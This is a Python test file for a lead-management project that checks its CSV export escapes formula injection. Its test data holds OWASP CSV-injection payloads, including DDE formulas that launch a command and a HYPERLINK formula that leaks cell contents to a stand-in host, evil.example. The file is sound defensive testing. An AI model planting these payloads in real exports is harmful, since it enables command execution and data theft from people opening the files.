"""CSV injection (issue 13 item 4): every CSV the project writes shows lead values as text."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leadflow.csv_safe import csv_line, csv_text, safe_cell

# OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and the
# whitespace variants spreadsheets skip before reading a formula.
PAYLOADS = [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    (
        '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click here")',
        '\'=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click here")',
    ),
    ("=1+1", "'=1+1"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    (" =1+1", "' =1+1"),
    ("\u00a0\u3000=1+1", "'\u00a0\u3000=1+1"),
    ("\n@x", "'\n@x"),
    ("\x00=1+1", "'=1+1"),
    ("=1\x00+1", "'=1+1"),
    ("-", "'-"),
    ("+", "'+"),
    ("- 3", "'- 3"),
    ("1e5+cmd", "1e5+cmd"),  # starts with a digit: a spreadsheet reads text, not a formula
]

# Values that are not formulas come out exactly as they went in.
UNCHANGED = [
    "+15125550142",
    "-3.5",
    "+3.5",
    "-0.25",
    "-.5",
    "-1e5",
    "2024-01-05",
    "5125550142",
    "12.50",
    "Ada",
    "O'Brien",
    "a=b",
    "user@example.com",
    "",
    " -3.5",
]


@pytest.mark.parametrize(("value", "expected"), PAYLOADS)
def test_owasp_payloads_are_neutralised(value: str, expected: str) -> None:
    assert safe_cell(value) == expected
    [[cell]] = list(csv.reader(io.StringIO(csv_line([value]), newline="")))
    assert cell == expected


@pytest.mark.parametrize("value", UNCHANGED)
def test_numbers_phones_dates_and_text_are_untouched(value: str) -> None:
    assert safe_cell(value) == value
    if value and "," not in value:
        assert csv_line(["x", value]) == f"x,{value}\r\n"


def test_embedded_quotes_and_separators_stay_inside_one_quoted_cell() -> None:
    # `;` is Excel's list separator in many locales: unquoted, `=cmd` would become its own cell.
    line = csv_line(['say "hi"', "a,b", "x;=cmd|' /C calc'!A0", "tab\there", "two\r\nlines"])
    assert line == ('"say ""hi""","a,b","x;=cmd|\' /C calc\'!A0","tab\there","two\r\nlines"\r\n')


def test_a_lone_empty_cell_is_not_a_blank_line() -> None:
    assert list(csv.reader(io.StringIO(csv_text(["a"], [[""]]), newline=""))) == [["a"], [""]]


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4))
def test_any_rows_read_back_as_the_neutralised_cells(rows: list[list[str]]) -> None:
    text = csv_text(rows[0], rows[1:])
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [[safe_cell(cell) for cell in row] for row in rows]
    for row in read:
        for cell in row:
            start = cell.lstrip()
            assert "\x00" not in cell
            assert cell[:1] not in ("\t", "\r"), cell
            assert start[:1] not in ("=", "@"), cell
            if start[:1] in ("+", "-"):
                float(start)  # only a plain number may start with a sign
